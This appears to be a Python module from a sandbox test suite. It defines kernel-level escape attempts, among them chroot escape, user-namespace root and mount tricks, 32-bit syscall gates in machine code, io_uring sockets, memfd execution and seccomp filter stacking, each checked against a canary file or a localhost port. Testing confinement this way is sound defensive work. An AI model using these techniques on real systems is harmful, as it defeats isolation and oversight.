"""Attacks by way of the kernel's wider surface."""

from __future__ import annotations

from pathlib import Path

from attacks.files import leaks
from attacks.network import hears
from attacks.noun import Attack, Category, Need, Oracle, Run
from attacks.world import World, key_owners


def _holds(what: str) -> Oracle:
    def oracle(world: World, run: Run) -> str:
        found = [name for name in run.seen.held if what in name]
        return f"it held {found[0]}" if found else ""

    return oracle


def _key(world: World, run: Run) -> str:
    """The kernel counts the keys of every user."""
    owners = key_owners()
    found = set(owners & (run.seen.uids - world.key_owners))
    return f"uid {found.pop()} has keys" if found else ""


def _hierarchy(world: World, run: Run) -> str:
    found = list(Path("/sys/fs/cgroup").glob(f"**/{world.token}"))
    for folder in found:
        folder.rmdir()
    return f"it made {found[0]}" if found else ""


def _attack(
    name: str,
    program: str,
    succeeded: Oracle = leaks,
    *needs: Need,
    watch: str = "",
    no_control: str = "",
) -> Attack:
    return Attack(
        name=name,
        category=Category.KERNEL,
        program=program,
        succeeded=succeeded,
        needs=frozenset(needs),
        watch=frozenset(watch.split()),
        no_control=no_control,
    )


def _handle(name: str, program: str, what: str, *needs: Need) -> Attack:
    """An attack that only has to get a descriptor of a dangerous kind."""
    return _attack(name, program + "\ntime.sleep(1.0)", _holds(what), *needs, watch="held")


_HANDLES = (
    _handle("io-uring", "call('io_uring_setup', 4, bytes(120))", "[io_uring]"),
    _handle("userfaultfd", "call('userfaultfd', 1)", "[userfaultfd]"),
    _handle(
        "bpf",
        "call('bpf', 0, struct.pack('4I', 2, 4, 4, 1) + bytes(112), 128)",
        "bpf-map",
        Need.ROOT,
    ),
    _handle(
        "perf-event",
        "call('perf_event_open', struct.pack('IIQ', 1, 112, 1) + bytes(96), 0, -1, -1, 0)",
        "[perf_event]",
        Need.ROOT,
    ),
    _handle("fanotify", "call('fanotify_init', 0, 0)", "[fanotify]", Need.ROOT),
    _handle("new-file-system", "call('fsopen', b'tmpfs', 0)", "[fscontext]", Need.ROOT),
    _handle(
        "kernel-cryptography",
        """\
try:
    line = socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET)
except OSError as error:
    absent(f"no AF_ALG: {error}")
""",
        "family:38",
    ),
)

_NAMESPACES = (
    _attack(
        "bind-mount-in-own-namespace",
        """\
checked(libc.unshare(CLONE_NEWUSER | CLONE_NEWNS))
os.mkdir("mine")
checked(libc.mount($dir.encode(), b"mine", None, 0x1000, None))
show("mine/" + os.path.basename($canary))
""",
    ),
    _attack(
        "proc-of-own-namespace",
        """\
checked(libc.unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID))
if os.fork() == 0:
    os.mkdir("mine")
    checked(libc.mount(b"proc", b"mine", b"proc", 0, None))
    show("mine/1/root" + $canary)
    os._exit(0)
os.wait()
""",
    ),
    _attack(
        "detached-tree",
        """\
checked(libc.unshare(CLONE_NEWUSER | CLONE_NEWNS))
tree = call("open_tree", -100, b"/", 0x8001)
show(os.open($canary.lstrip("/"), os.O_RDONLY, dir_fd=tree))
""",
    ),
    _attack(
        "pivot",
        """\
checked(libc.unshare(CLONE_NEWUSER | CLONE_NEWNS))
os.mkdir("mine")
checked(libc.mount(b"/", b"mine", None, 0x5000, None))
os.chdir("mine")
call("pivot_root", b".", b".")
show($canary)
""",
    ),
    _attack(
        "escape-from-chroot",
        """\
place = os.open("/", os.O_RDONLY)
os.mkdir("mine")
os.chroot("mine")
os.fchdir(place)
for _ in range(30):
    os.chdir("..")
os.chroot(".")
show($canary)
""",
        leaks,
        Need.ROOT,
    ),
    _attack(
        "root-of-own-namespace",
        """\
inside = os.getuid()
checked(libc.unshare(CLONE_NEWUSER))
open("/proc/self/setgroups", "w").write("deny")
open("/proc/self/uid_map", "w").write(f"0 {inside} 1")
os.setuid(0)
show($canary)
""",
    ),
    _attack(
        "cgroup-of-its-own",
        """\
import glob
for place in ["/sys/fs/cgroup", *glob.glob("/sys/fs/cgroup/*/")]:
    tries(lambda: os.mkdir(f"{place}/{$token}"))
""",
        _hierarchy,
        Need.CGROUP,
    ),
    _attack(
        "keys-left-behind",
        "call('add_key', b'user', $token.encode(), b'note', 4, -4)",
        _key,
        no_control="root's keys would stay among those of the machine",
    ),
)

_MACHINE_CODE = """\
import mmap
code = bytes.fromhex("53 89f8 89f3 4887ca cd80 5b c3")
flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS
place = mmap.mmap(-1, 4096, flags, 7)
place.write(code)
address = ctypes.addressof(ctypes.c_char.from_buffer(place))
gate = ctypes.CFUNCTYPE(ctypes.c_int, *[ctypes.c_uint] * 4)(address)
# The 32-bit calls take 32-bit pointers.
libc.mmap.restype = ctypes.c_void_p
low = libc.mmap(None, ctypes.c_size_t(4096), 3, flags | 0x40, -1, ctypes.c_long(0))
def put(data, offset=0):
    ctypes.memmove(low + offset, data, len(data))
    return low + offset
"""
"""A gate to the system calls of another architecture, in the processor's own words."""

_CALLS = (
    _attack(
        "32-bit-calls-to-a-socket",
        _MACHINE_CODE
        + """\
line = gate(359, socket.AF_INET, socket.SOCK_STREAM, 0)
if line == -38:
    absent("no 32-bit system calls")
to = struct.pack("=H", socket.AF_INET) + struct.pack("!H", $tcp) + bytes([127, 0, 0, 1]) + bytes(8)
gate(362, line, put(to), len(to))
""",
        hears,
        Need.X86,
    ),
    _attack(
        "32-bit-calls-to-a-file",
        _MACHINE_CODE
        + """\
file = gate(5, put($canary.encode() + b"\\0"), 0, 0)
if file == -38:
    absent("no 32-bit system calls")
show(file)
""",
        leaks,
        Need.X86,
    ),
    _attack(
        "x32-calls",
        """\
try:
    line = call(41 | 0x40000000, socket.AF_INET, socket.SOCK_STREAM, 0)
except OSError as error:
    absent(f"no x32 system calls: {error}")
socket.socket(fileno=line).connect(("127.0.0.1", $tcp))
""",
        hears,
        Need.X86,
    ),
    _attack(
        "socket-of-io-uring",
        # A socket that no system call named socket has made.
        """\
import mmap
settings = ctypes.create_string_buffer(120)
ring = call("io_uring_setup", 4, settings)
offsets = struct.unpack_from("10I", settings, 40)
shared = mmap.mmap(ring, 1 << 14, mmap.MAP_SHARED, 3, offset=0)
entries = mmap.mmap(ring, 64 * 4, mmap.MAP_SHARED, 3, offset=0x10000000)
head_c, tail_c, mask_c = struct.unpack_from("3I", settings, 80)
cqes = struct.unpack_from("6I", settings, 80)[5]
def submit(entry):
    entries[:64] = entry.ljust(64, b"\\0")
    tail = struct.unpack_from("I", shared, offsets[1])[0]
    mask = struct.unpack_from("I", shared, offsets[2])[0]
    struct.pack_into("I", shared, offsets[6] + 4 * (tail & mask), 0)
    struct.pack_into("I", shared, offsets[1], tail + 1)
    call("io_uring_enter", ring, 1, 1, 1, 0, 0)
    head = struct.unpack_from("I", shared, head_c)[0]
    struct.pack_into("I", shared, head_c, head + 1)
    size = struct.unpack_from("I", shared, mask_c)[0]
    return struct.unpack_from("i", shared, cqes + 16 * (head & size) + 8)[0]
line = submit(struct.pack("BBHiQQII", 45, 0, 0, socket.AF_INET, socket.SOCK_STREAM, 0, 0, 0))
if line == -22:
    absent("no sockets of io_uring")
to = struct.pack("=H", socket.AF_INET) + struct.pack("!H", $tcp) + bytes([127, 0, 0, 1]) + bytes(8)
room = ctypes.create_string_buffer(to, 16)
print(submit(struct.pack("BBHiQQII", 16, 0, 0, line, 16, ctypes.addressof(room), 0, 0)))
""",
        hears,
    ),
    _attack(
        "program-in-memory",
        # It is executed from a file that has no path, so that no rule about paths applies.
        """\
file = call("memfd_create", b"program", 0)
os.write(file, open("/bin/cat", "rb").read())
here = ctypes.create_string_buffer(b"")
argv = (ctypes.c_char_p * 3)(b"cat", $canary.encode(), None)
call("execveat", file, here, argv, None, 0x1000)
""",
    ),
    _attack(
        "filter-of-its-own",
        # A filter that lets everything pass does not replace the one before it.
        """\
checked(libc.prctl(38, 1, 0, 0, 0))
line = struct.pack("=HBBI", 6, 0, 0, 0x7FFF0000)
room = ctypes.create_string_buffer(line)
program = struct.pack("HxxxxxxQ", 1, ctypes.addressof(room))
checked(libc.prctl(22, 2, program, 0, 0))
socket.create_connection(("127.0.0.1", $tcp))
""",
        hears,
    ),
)

KERNEL = _HANDLES + _NAMESPACES + _CALLS
